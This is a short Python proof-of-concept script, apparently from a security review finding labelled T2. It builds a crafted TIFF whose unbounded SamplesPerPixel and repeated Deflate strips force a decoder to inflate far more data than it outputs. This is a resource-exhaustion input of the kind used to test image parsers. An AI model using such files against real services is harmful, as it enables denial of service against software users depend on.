# Finding T2: SamplesPerPixel is not bounded: an RGB strip image with thousands of extra
# samples decodes spp*bps/8 bytes for every 4 it outputs. BitsPerSample has one value (count 1),
# no ExtraSamples tag; every strip (RowsPerStrip 1) points at one Deflate blob.
# usage: mk_spp_strips.py W H SPP BPS OUT
import sys, zlib; sys.path.insert(0, '/tmp/review'); from tiffgen import build
W, H, SPP, BPS = map(int, sys.argv[1:5]); out = sys.argv[5]
line = W * SPP * BPS // 8
blob = zlib.compress(b'\0' * line, 9)
e = [(256,4,[W]),(257,4,[H]),(258,3,[BPS]),(259,3,[8]),(262,3,[2]),(277,3,[SPP]),(278,4,[1]),(317,3,[2]),
     (273,4,[8]*H),(279,4,[len(blob)]*H)]
open(out,'wb').write(build(e, blob))
print(out, 'decoded bytes', line*H, 'pixels', W*H)
